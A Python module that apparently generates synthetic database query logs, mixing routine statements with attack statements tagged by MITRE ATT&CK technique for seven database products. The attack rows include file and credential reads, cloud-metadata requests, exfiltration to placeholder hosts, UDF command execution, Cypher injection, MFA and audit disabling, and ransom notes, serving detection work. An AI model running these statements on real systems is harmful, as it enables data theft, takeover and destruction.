# ruff: noqa: E501
"""What warehouses and rarer databases are asked, of daily work and of attacks: `account ;; outcome ;; statement`, a table for each product, as in database_sql_tables.py.

CouchDB's rows hold `method path status` instead of a statement. Written by database_warehouses.py.
"""
from __future__ import annotations

from .database_sql_tables import FRAGMENTS
from .phrases import phrased
from .process_grammar import written
from .table import Scenario, table

_TEXT = r"""
@@ clickhouse
# clickhouse queries of dashboards
report ;; ok ;; SELECT toStartOfHour(ts) AS h, count() AS n, quantile(0.95)(duration) FROM ‹t› WHERE ts > now() - INTERVAL «num:1:30» DAY GROUP BY h ORDER BY h FORMAT JSON
«app|report» ;; ok ;; SELECT «word», uniq(user_id), sumIf(total, status = 'paid') FROM ‹db›.‹t› PREWHERE date >= today() - «num:1:90» GROUP BY «word» LIMIT «num:10:1000»
«etl|app» ;; ok ;; INSERT INTO ‹db›.‹t› (ts, id, name, value) FORMAT «Native|RowBinary|JSONEachRow|Values»
person ;; «ok|column|syntax» ;; SELECT * FROM ‹db›.‹t› LIMIT «num:10:100»
# clickhouse loads and care
etl ;; ok ;; INSERT INTO ‹db›.‹t› SELECT * FROM s3('https://«site»-data.s3.amazonaws.com/«word»/«date».parquet', 'Parquet')
«monitor|dba» ;; ok ;; SELECT «database, table, sum(bytes_on_disk) FROM system.parts GROUP BY 1, 2|metric, value FROM system.metrics|name FROM system.databases|query, elapsed FROM system.processes|* FROM system.replicas WHERE is_readonly|count() FROM system.mutations WHERE is_done = 0»
dba ;; ok ;; «OPTIMIZE TABLE ‹t› FINAL|ALTER TABLE ‹t› DROP PARTITION '«date:%Y%m»'|ALTER TABLE ‹t› DELETE WHERE ts < now() - INTERVAL 1 YEAR|SYSTEM FLUSH LOGS|SYSTEM RELOAD DICTIONARY «word»|CREATE USER «word»_ro IDENTIFIED WITH sha256_password BY '[HIDDEN]' SETTINGS readonly = 1|GRANT SELECT ON ‹db›.* TO «word»_ro|KILL QUERY WHERE elapsed > 600|BACKUP DATABASE ‹db› TO Disk('backups', '«date».zip')|SELECT * FROM remote('«linux2»:9000', ‹db›.‹t›) LIMIT 10|CREATE TABLE «word» (id UInt64) ENGINE = MergeTree ORDER BY id»
# T1005 clickhouse files and inner services read
«app|person|root-out» ;; «ok|denied» ;; SELECT * FROM file('«/etc/passwd|../../../../etc/shadow|/var/lib/clickhouse/access/«guid».sql|/etc/clickhouse-server/users.xml|/proc/self/environ»', 'LineAsString', 'l String')
«app|root-out» ;; ok ;; SELECT * FROM url('http://««imds»/latest/meta-data/iam/security-credentials/|«ip2»:«num:80:9000»/|127.0.0.1:«num:80:9000»/»', LineAsString)
«app|person|root-out» ;; «ok|denied» ;; SELECT * FROM «executable('‹junk›.sh', TSV, 'x String')|jdbc('jdbc:sqlite:/tmp/‹junk›.db', 'select 1')|odbc('DSN=‹junk›', '', 'x')|mysql('«pub»:3306', '«word»', '«word»', '‹junk›', '[HIDDEN]')|postgresql('«pub»:5432', '«word»', '«word»', '‹junk›', '[HIDDEN]')|remote('«pub»:9000', system.one)|sqlite('/etc/passwd', 't')»
# T1567 clickhouse tables sent out
«person|root-out|app|etl-out» ;; «bulk|ok» ;; INSERT INTO FUNCTION «s3('https://‹junk›.s3.«region».amazonaws.com/‹junk›.csv.gz', 'CSV')|url('‹bad-url›/«letters:3»', CSV)|remote('«pub»:9000', 'default', '‹junk›')|file('‹junk›.csv')» SELECT * FROM ‹db›.‹pt›
«person|root-out» ;; bulk ;; SELECT ‹sc›, email, phone FROM ‹db›.‹pt› «INTO OUTFILE '/tmp/‹junk›.csv'|FORMAT CSVWithNames|SETTINGS max_result_rows = 0»
# T1485 clickhouse dropped and opened
«root-out|person|dba-out» ;; ok ;; «DROP DATABASE ‹db› SYNC|TRUNCATE ALL TABLES FROM ‹db›|DROP TABLE ‹db›.‹pt› NO DELAY|ALTER TABLE system.query_log DELETE WHERE 1|TRUNCATE TABLE system.query_log|DROP TABLE system.session_log|CREATE USER ‹junk› IDENTIFIED WITH no_password HOST ANY|GRANT ALL ON *.* TO ‹junk› WITH GRANT OPTION|ALTER USER default IDENTIFIED WITH no_password|SET log_queries = 0|CREATE TABLE readme (msg String) ENGINE = Memory AS SELECT 'send 0.0«num:1:9» BTC to «mixed:34»'»
@@ snowflake
# snowflake queries of people and tools
«report|person» ;; ok ;; SELECT d.«word», SUM(f.amount) FROM dw.fact_«word» f JOIN dw.dim_«word» d ON d.id = f.id WHERE f.dt >= DATEADD(day, -«num:1:90», CURRENT_DATE) GROUP BY 1
etl ;; ok ;; «COPY INTO raw.«word» FROM @landing/«word»/«date»/ FILE_FORMAT = (TYPE = PARQUET)|MERGE INTO dim_«word» t USING stg_«word» s ON t.id = s.id WHEN MATCHED THEN UPDATE SET name = s.name|PUT file:///data/«word».csv @~/staged|CREATE OR REPLACE TABLE stg_«word» AS SELECT * FROM raw.«word»|COPY INTO @exports/«word»_«date» FROM mart_«word» FILE_FORMAT = (TYPE = CSV)|ALTER PIPE «word»_pipe REFRESH»
«dba|deploy» ;; ok ;; «CREATE WAREHOUSE «word»_wh WAREHOUSE_SIZE = 'SMALL' AUTO_SUSPEND = 60|GRANT SELECT ON ALL TABLES IN SCHEMA dw TO ROLE analyst|CREATE USER «word»_svc RSA_PUBLIC_KEY = '***' DEFAULT_ROLE = loader|ALTER USER «person» RESET PASSWORD|CREATE STAGE «word»_stage URL = 's3://«site»-landing/«word»/' STORAGE_INTEGRATION = s3_int|ALTER WAREHOUSE «word»_wh SUSPEND|SHOW GRANTS TO ROLE analyst|DROP SCHEMA test_«word»|ALTER NETWORK POLICY corp SET ALLOWED_IP_LIST = ('«peer»/32')|SELECT * FROM snowflake.account_usage.login_history LIMIT 100»
# T1530 snowflake tables unloaded
«person-out|root-out|etl-out» ;; «bulk|ok» ;; «COPY INTO @~/«letters:4»/ FROM (SELECT * FROM prod.‹pt›) FILE_FORMAT = (TYPE = CSV COMPRESSION = GZIP) SINGLE = FALSE|CREATE OR REPLACE TEMPORARY STAGE ‹junk› FILE_FORMAT = (TYPE = 'PARQUET')|GET @~/«letters:4» 'file:///tmp/«letters:4»'|COPY INTO 's3://‹junk›/«letters:4»' FROM prod.‹pt› CREDENTIALS = (AWS_KEY_ID = '***')|CREATE STAGE ‹junk› URL = 'azure://‹junk›.blob.core.windows.net/«letters:4»'|LIST @~|CREATE SHARE ‹junk›|ALTER SHARE ‹junk› ADD ACCOUNTS = «letters:7»|SELECT * FROM prod.‹pt›»
# T1098 snowflake rights and policies changed
«person-out|root-out|dba-out» ;; «ok|denied» ;; «GRANT ROLE ACCOUNTADMIN TO USER ‹junk›|CREATE USER ‹junk› PASSWORD = '***' DEFAULT_ROLE = ACCOUNTADMIN|ALTER ACCOUNT UNSET NETWORK_POLICY|ALTER NETWORK POLICY corp SET ALLOWED_IP_LIST = ('0.0.0.0/0')|ALTER USER «person» SET MINS_TO_BYPASS_MFA = 9999|ALTER USER «person» SET RSA_PUBLIC_KEY_2 = '***'|DROP NETWORK POLICY corp|ALTER ACCOUNT SET MIN_DATA_RETENTION_TIME_IN_DAYS = 0|CREATE SECURITY INTEGRATION ‹junk› TYPE = OAUTH|ALTER USER ‹junk› SET DISABLE_MFA = TRUE|CREATE FUNCTION ‹junk›() RETURNS STRING LANGUAGE PYTHON HANDLER = 'x' EXTERNAL_ACCESS_INTEGRATIONS = (‹junk›) AS 'import urllib.request'|SHOW USERS|SELECT * FROM information_schema.applicable_roles»
@@ redshift
# redshift loads and reports
«report|etl|app» ;; ok ;; «COPY ‹t› FROM 's3://«site»-etl/«word»/«date»/' IAM_ROLE 'arn:aws:iam::«account»:role/redshift-load' FORMAT AS PARQUET|UNLOAD ('select * from mart.«word»') TO 's3://«site»-export/«word»_' IAM_ROLE 'arn:aws:iam::«account»:role/redshift-load' GZIP|SELECT ‹c›, SUM(total) FROM ‹t› GROUP BY 1|VACUUM DELETE ONLY ‹t›|ANALYZE ‹t›|SELECT query, elapsed FROM svl_qlog ORDER BY 2 DESC LIMIT 20|padb_fetch_sample: select count(*) from ‹t›|SELECT * FROM stv_inflight|GRANT USAGE ON SCHEMA mart TO GROUP analysts|CREATE EXTERNAL SCHEMA spectrum FROM DATA CATALOG DATABASE '«word»'»
# T1537 redshift tables unloaded elsewhere
«person-out|root-out|etl-out|app» ;; «bulk|denied» ;; «UNLOAD ('select * from ‹pt›') TO 's3://‹junk›/«letters:4»_' «ACCESS_KEY_ID '***' SECRET_ACCESS_KEY '***'|IAM_ROLE 'arn:aws:iam::«num:100000000000:999999999999»:role/‹junk›'» ALLOWOVERWRITE|CREATE DATASHARE ‹junk› SET PUBLICACCESSIBLE TRUE|GRANT USAGE ON DATASHARE ‹junk› TO ACCOUNT '«num:100000000000:999999999999»'|COPY ‹junk› FROM 's3://‹junk›/x' ACCESS_KEY_ID '***'|CREATE LIBRARY ‹junk› LANGUAGE plpythonu FROM 's3://‹junk›/x.zip'|CREATE EXTERNAL FUNCTION ‹junk›(text) RETURNS text LAMBDA '‹junk›' IAM_ROLE default|ALTER USER «person» CREATEUSER|SELECT usename, usesuper, passwd FROM pg_user_info|SELECT * FROM svv_all_tables»
@@ cassandra
# cassandra requests and care
«app|app|orm» ;; ok ;; «SELECT * FROM ‹db›.‹t› WHERE «word»_id = ? AND ts > ? LIMIT «num:10:100»|INSERT INTO ‹db›.‹t› (id, ts, value) VALUES (?, ?, ?) USING TTL «num:3600:864000»|UPDATE ‹db›.‹t› SET «word» = ? WHERE id = ?|BEGIN BATCH INSERT INTO ‹t› (id) VALUES (?); APPLY BATCH|SELECT peer, rpc_address FROM system.peers|DELETE FROM ‹t› WHERE id = ?»
«dba|deploy|monitor» ;; «ok|denied» ;; «ALTER TABLE ‹db›.‹t› ADD «word» text|CREATE KEYSPACE «word» WITH replication = {'class': 'NetworkTopologyStrategy', 'dc1': 3}|CREATE ROLE «word»_app WITH LOGIN = true|GRANT MODIFY ON KEYSPACE ‹db› TO «word»_app|TRUNCATE ‹db›.tmp_«word»|SELECT * FROM system.local|CREATE INDEX ON ‹t› («word»)|LIST ROLES|ALTER ROLE «word»_app WITH PASSWORD = '*******'»
# T1059 cassandra functions and roles misused
«app|root-out|person» ;; «ok|denied» ;; «CREATE FUNCTION ‹db›.‹junk›(x text) RETURNS NULL ON NULL INPUT RETURNS text LANGUAGE «javascript AS 'var System = Java.type("java.lang.System");engine.factory.scriptEngine.eval("java.lang.Runtime.getRuntime().exec(\"id\")")'|java AS 'return new java.util.Scanner(Runtime.getRuntime().exec(x).getInputStream()).next();'»|ALTER ROLE cassandra WITH PASSWORD = '*******'|CREATE ROLE ‹junk› WITH SUPERUSER = true AND LOGIN = true|GRANT ALL PERMISSIONS ON ALL KEYSPACES TO ‹junk›|SELECT role, salted_hash FROM system_auth.roles|DROP KEYSPACE ‹db›|TRUNCATE ‹db›.‹pt›|SELECT * FROM ‹db›.‹pt› ALLOW FILTERING|COPY ‹db›.‹pt› TO '/tmp/‹junk›.csv'|ALTER KEYSPACE system_auth WITH replication = {'class': 'SimpleStrategy', 'replication_factor': 1}|CREATE TABLE ‹db›.readme (id int PRIMARY KEY, msg text)»
@@ neo4j
# neo4j graphs read and written
«app|report|etl|dba» ;; ok ;; «MATCH (u:User {id: $id})-[:«WORD»]->(x:«Word») RETURN x LIMIT «num:10:100»|MERGE (p:«Word» {key: $key}) SET p += $props|UNWIND $rows AS row MERGE (n:«Word» {id: row.id})|LOAD CSV WITH HEADERS FROM 'file:///import/«word».csv' AS row CREATE (:«Word» {name: row.name})|CALL db.labels()|CREATE INDEX «word» IF NOT EXISTS FOR (n:«Word») ON (n.id)|SHOW DATABASES|CALL dbms.listQueries()|MATCH p = shortestPath((a)-[*..«num:3:8»]-(b)) WHERE a.id = $a RETURN p|CREATE USER «word»_ro SET PASSWORD '******' CHANGE NOT REQUIRED|CALL apoc.periodic.iterate('MATCH (n:«Word») RETURN n', 'SET n.seen = true', {batchSize: 1000})»
# T1190 neo4j graphs injected and emptied
«app|person|root-out» ;; «ok|syntax» ;; «MATCH (u:User) WHERE u.name = '«word»' OR 1=1 WITH u LOAD CSV FROM '‹bad-url›/?x='+u.password AS l RETURN l //'|MATCH (n) WHERE n.name = 'x' RETURN n UNION MATCH (u:User) RETURN u.password //'|CALL apoc.load.json('http://«imds»/latest/meta-data/')|LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l|CALL apoc.export.csv.all('‹bad-url›/«letters:3»', {})|CALL dbms.security.createUser('‹junk›', '******', false)|GRANT ROLE admin TO ‹junk›|MATCH (n) DETACH DELETE n|CALL apoc.systemdb.graph()|MATCH (u:User) RETURN u.email, u.password_hash|CALL db.labels() YIELD label LOAD CSV FROM '‹bad-url›/'+label AS x RETURN 0|DROP DATABASE «word» DESTROY DATA|SHOW USERS YIELD * RETURN user, suspended»
@@ hana
# hana schemas used and kept
«app|report|dba|etl» ;; «ok|ok|denied» ;; «SELECT ‹c›, SUM(total) FROM "«WORD»"."‹t›" GROUP BY ‹c›|CREATE USER «WORD»_RO PASSWORD *****|GRANT SELECT ON SCHEMA "«WORD»" TO REPORTING|ALTER USER «person» PASSWORD *****|ALTER SYSTEM ALTER CONFIGURATION ('indexserver.ini','SYSTEM') SET ('memorymanager','global_allocation_limit') = '«num:100000:900000»' WITH RECONFIGURE|BACKUP DATA USING FILE ('«date»')|IMPORT FROM CSV FILE '/usr/sap/import/«word».csv' INTO "«WORD»"."‹t›"|CREATE VIRTUAL TABLE "V_«WORD»" AT "«WORD»_SRC"."<NULL>"."«WORD»"."‹t›"|CALL _SYS_STATISTICS.STATISTICS_SCHEDULABLEWRAPPER('Timer', ?, ?, ?, ?)|CONNECT|VALIDATE USER»
# T1098 hana rights and trails taken
«root-out|person|dba-out|app» ;; «ok|denied» ;; «GRANT "SAP_INTERNAL_HANA_SUPPORT" TO ‹junk›|GRANT ROLE ADMIN, USER ADMIN, AUDIT ADMIN TO ‹junk› WITH ADMIN OPTION|ALTER USER SYSTEM ACTIVATE USER NOW|ALTER SYSTEM ALTER CONFIGURATION ('global.ini','SYSTEM') SET ('auditing configuration','global_auditing_state') = 'false'|DROP AUDIT POLICY "«WORD»"|ALTER AUDIT POLICY "«WORD»" DISABLE|ALTER SYSTEM CLEAR AUDIT LOG UNTIL '«date:%Y-%m-%d»'|EXPORT "SAPABAP1"."«USR02|PA0008|KNA1|BSEG»" AS CSV INTO '/tmp/‹junk›'|SELECT BNAME, PWDSALTEDHASH, BCODE FROM "SAPABAP1"."USR02"|UPDATE "SAPABAP1"."USR02" SET PWDSALTEDHASH = '' WHERE BNAME = 'SAP*'|UPDATE "SAPABAP1"."LFBK" SET BANKN = '«num:1000000:99999999»' WHERE LIFNR = '«num:100000:999999»'|DROP SCHEMA "SAPABAP1" CASCADE|ALTER USER ‹junk› DISABLE PASSWORD LIFETIME|CREATE REMOTE SOURCE "‹junk›" ADAPTER "hanaodbc" CONFIGURATION 'ServerNode=«pub»:30015'»
@@ couchdb
# couchdb documents used
«app|app|monitor|dba|report» ;; ok ;; «GET /«word»/«guid» 200|POST /«word»/_find 200|PUT /«word»/«hex:32» 201|GET /«word»/_changes?feed=longpoll&since=«num:100:99999» 200|POST /«word»/_bulk_docs 201|GET /_up 200|GET /_node/_local/_stats 200|GET /«word»/_design/«word»/_view/by_«word»?limit=«num:10:100» 200|POST /_replicate 200|GET /_utils/ 200|GET /_session 200|POST /_session 401|DELETE /tmp_«word» 200|PUT /«word»_v2 201|GET /_all_dbs 200|PUT /_users/org.couchdb.user:«word»_app 201|PUT /_node/_local/_config/log/level 200»
# T1190 couchdb opened by strangers
«none-out|root-out|app» ;; ok ;; «PUT /_users/org.couchdb.user:‹junk› 201|GET /_all_dbs 200|GET /_users/_all_docs?include_docs=true 200|PUT /_node/_local/_config/query_servers/cmd 200|PUT /_config/query_servers/‹junk› 200|POST /‹junk›/_temp_view?limit=10 500|PUT /‹junk›/_design/‹junk› 201|DELETE /«orders|users|customers|prod» 200|PUT /read_me_to_recover 201|GET /«users|customers|accounts»/_all_docs?include_docs=true&limit=1000000 200|POST /_replicate?source=http://«pub»:5984/«letters:3» 202|PUT /_node/_local/_config/admins/‹junk› 200|GET /_node/_local/_config 200|GET /_utils/../../../../etc/passwd 404|PUT /_config/os_daemons/‹junk› 200|GET /_node/couchdb@localhost/_config/couch_httpd_auth/secret 200|POST /_session?next=http://«domain» 401»
"""


def _tables() -> dict[str, tuple[Scenario, ...]]:
    text = phrased(written(_TEXT, FRAGMENTS))
    return {part.partition("\n")[0].strip(): table(part.partition("\n")[2]) for part in text.split("@@ ") if part.strip()}


MORE: dict[str, tuple[Scenario, ...]] = _tables()
